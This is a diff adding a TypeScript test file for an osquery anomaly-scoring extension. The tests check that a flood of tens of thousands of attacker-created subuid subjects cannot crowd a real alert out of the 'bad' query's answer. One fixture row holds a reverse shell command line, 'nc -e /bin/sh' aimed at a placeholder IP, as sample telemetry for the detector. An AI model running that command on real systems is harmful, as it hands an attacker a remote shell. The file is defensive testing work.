@@ -1,0 +1,152 @@
+import t from 'tap';
+import { storedColumns } from '../scorer/features/extract';
+import type { ScoredEvent } from '../scorer/types';
+import { ANSWER_BYTES } from '../extension/tables/answer';
+import type { AnswerShare } from '../state/answer-share';
+import { generateContext } from '../emulator/sql';
+import type { Row } from '../extension/plugin/table';
+import { SCORE_COLUMNS, scoresTable } from '../extension/tables/scores';
+import { badAnswer, tmpScoreStore } from './helpers/alert-answer';
+import { plainRow } from './helpers/scored';
+
+// The fold attack (review, lead 1): a local user who can make tens of thousands of subjects
+// (the owner uids of a rootless container's files, 65,536 subuids a user, each `uid:N` as no
+// account names it) gives each one bad row in the `bad` query's day. Every subject then
+// needed a summary, the answer had room for 652, and the rest were folded into one `*`
+// summary by their lowest score: another account's real alert, scored above the flood's
+// zeros, was in no row of the answer. Run as osqueryd asks for the pack's `bad` query.
+
+t.setTimeout(1_800_000);
+
+const NOW = 1_800_000_000;
+const HOST = 'web-01';
+
+/** attacker subject k's one bad row: the first act of a uid never seen, its command line as long as they like */
+const attackers = (k: number): ScoredEvent =>
+  plainRow(k, {
+    id: `flood-${k}`,
+    time: NOW - 3600 + (k % 3600),
+    host: HOST,
+    subject: `uid:${100_000 + k}`,
+    query: 'pack_user-behavior_file_events',
+    event: 'write /home/<user>/.local/share/containers/<*>',
+    score: 0,
+    verdict: 'bad',
+    model: 'host:rarity',
+    reasons: `new account: \`uid:${100_000 + k}\` never acted on this host before (in 41,210 events) (host:rarity)`,
+    columns: JSON.stringify(
+      storedColumns({ target_path: `/home/mallory/.local/share/containers/storage/overlay/${'a'.repeat(3000)}`, uid: String(100_000 + k) }),
+    ),
+  });
+
+/** bob's history on the host: ordinary rows of the days before (the demo's bob has 3,237 events in 13 days) */
+const history = (i: number): ScoredEvent =>
+  plainRow(i, {
+    id: `bob-${i}`,
+    time: NOW - 13 * 86400 + i * 300,
+    host: HOST,
+    subject: 'bob',
+    query: 'pack_user-behavior_process_events',
+    event: 'exec /usr/bin/git <- /bin/bash',
+    score: 0.8 + (i % 20) / 100,
+    verdict: 'good',
+    columns: JSON.stringify(storedColumns({ pid: String(2000 + i), path: '/usr/bin/git', cmdline: 'git status', uid: '1002' })),
+  });
+
+/**
+ * bob's real alert, the demo's reverse shell row as the scorer retained it (`npm run demo --
+ * --end 2026-11-22`, 1,005 bytes stored; its 31 bad rows are 588 to 1,005): scored 0, as low
+ * as the flood's rows
+ */
+const VICTIM: ScoredEvent = {
+  id: 'toxggc-2771116bde6568da',
+  time: NOW - 1800,
+  host: HOST,
+  subject: 'bob',
+  query: 'pack_user-behavior_process_events',
+  action: 'added',
+  event: 'exec /usr/bin/nc <- /bin/bash',
+  score: 0,
+  verdict: 'bad',
+  model: 'rarity',
+  reasons:
+    "new value: working directory `/tmp` never seen before (in 3,153 events); `exec /usr/bin/nc <- /bin/bash` lies outside the learned shape of this subject's events (SVM margin -2.162) (rarity; 3,237 events in 13 days of history)",
+  columns:
+    '{"pid":"7353","path":"/usr/bin/nc","mode":"0100755","cmdline":"nc -e /bin/sh 203.0.113.50 4444","cwd":"/tmp","auid":"1002","uid":"1002","euid":"1002","gid":"1002","egid":"1002","owner_uid":"0","owner_gid":"0","atime":"1795304460","mtime":"1791590400","ctime":"1791590400","btime":"0","parent":"7347","time":"1795390860","uptime":"1209460","syscall":"execve"}',
+};
+
+t.test("tens of thousands of attacker subjects with a bad row each do not fold another account's alert out of the bad answer (fold)", async (t) => {
+  const store = tmpScoreStore(t);
+  // 40,000 of one rootless user's 65,536 subuids
+  const FLOOD = 40_000;
+  for (let i = 0; i < 3_000; i += 1_000) store.append(Array.from({ length: 1_000 }, (_, k) => history(i + k)));
+  let batch: ScoredEvent[] = [];
+  for (let k = 0; k < FLOOD; k++) {
+    batch.push(attackers(k));
+    if (k === 20_000) batch.push(VICTIM);
+    if (batch.length >= 2_000) {
+      store.append(batch);
+      batch = [];
+    }
+  }
+  store.append(batch);
+
+  const out = await badAnswer(store, NOW);
+  t.ok(
+    out.some((r) => r.id === VICTIM.id),
+    "bob's alert is a row of the answer",
+  );
+  const held = out.filter((r) => r.model === 'held-back');
+  const shown = out.length - held.length;
+  const heldRows = held.reduce((n, r) => n + Number(/held back: (\d+) rows/.exec(r.event)?.[1]), 0);
+  t.equal(shown + heldRows, FLOOD + 1, `every bad row is shown or counted in a summary (${shown} shown, ${heldRows} held back in ${held.length} summaries)`);
+  const bytes = out.reduce((n, r) => n + Object.entries(r).reduce((m, [k, v]) => m + 8 + k.length + Buffer.byteLength(v ?? ''), 6), 0);
+  t.ok(bytes <= ANSWER_BYTES, `the answer keeps to its budget (${(bytes / 2 ** 20).toFixed(1)} MB)`);
+  t.ok(shown > 5_000, `the budget holds rows, not only summaries (${shown} rows)`);
+  const folded = held.find((r) => r.subject === '*');
+  t.ok(folded, 'the subjects with no room are summed up in one row');
+  const subjects = Number(/ of (\d+) subjects/.exec(folded?.event ?? '')?.[1]);
+  t.ok(subjects > 0 && subjects === Number(/held back: (\d+) rows/.exec(folded?.event ?? '')?.[1]), `which counts them (${folded?.event})`);
+  t.match(folded?.event ?? '', /among them "uid:1\d{5}@web-01"/, 'and names some');
+  t.match(folded?.reasons ?? '', /no row and no summary of their own.*most rows retained beyond this answer first/, `and says why (${folded?.reasons})`);
+  // what the summary says to do: a query of few columns has room for every subject
+  const sql = `SELECT subject, host, count(*) AS n FROM anomaly_scores WHERE score < 0.3 AND time > ${NOW - 86400} GROUP BY subject, host`;
+  const res = await scoresTable(store).call(
+    {
+      action: 'generate',
+      context: generateContext(
+        sql,
+        SCORE_COLUMNS.map((c) => ({ name: c.name, type: c.type, op: '0' })),
+        'anomaly_scores',
+      ),
+    },
+    new Map(),
+  );
+  const few: Row[] = [];
+  for await (const r of (res as unknown as { rows: AsyncIterable<Row> }).rows) few.push(r);
+  t.equal(new Set(few.map((r) => r.subject)).size, FLOOD + 1, 'a query of subject and host alone answers every subject, none held back');
+  const ownSummaries = held.filter((r) => r.subject !== '*');
+  t.ok(ownSummaries.length > 0 && ownSummaries.every((r) => r.subject.startsWith('uid:')), "the summaries of their own are the flood's too");
+});
+
+t.test('where not every subject has room, standing decides before score: a crowd ranks below an account with twice its history (fold)', async (t) => {
+  // room for 8 rows (a row 1,000 bytes, two summaries of 1,000 kept out of 10,000)
+  const share: AnswerShare = { bytes: 10_000, heldBytes: 1_000, rows: 1_000, perSubject: Infinity, rowBytes: () => 1_000 };
+  const run = (crowdHistory: number): string[] => {
+    const store = tmpScoreStore(t);
+    const rows: ScoredEvent[] = [];
+    let i = 0;
+    const subject = (name: string, history: number, score: number): void => {
+      for (let k = 0; k < history; k++) rows.push(plainRow(i++, { id: `${name}-${k}`, subject: name, time: NOW - 86400 + k }));
+      rows.push(plainRow(i++, { id: `${name}-bad`, subject: name, score, verdict: 'bad', time: NOW - 60 }));
+    };
+    subject('bob', 64, 0.2);
+    for (let c = 0; c < 20; c++) subject(`uid:${100_000 + c}`, crowdHistory, 0);
+    store.append(rows);
+    return [...store.answer({ score: [{ op: '<', value: 0.3 }] }, share)].filter((r) => !('held' in r)).map((r) => (r as ScoredEvent).id);
+  };
+  const fewer = run(31);
+  t.equal(fewer.length, 8, 'the room is used');
+  t.ok(fewer.includes('bob-bad'), `bob (64 rows retained) is answered before 20 subjects of 31 rows each scored lower (${fewer.join(' ')})`);
+  t.notOk(run(63).includes('bob-bad'), 'subjects with as much history (in powers of two) and lower scores come first: the limit retention bounds');
+});
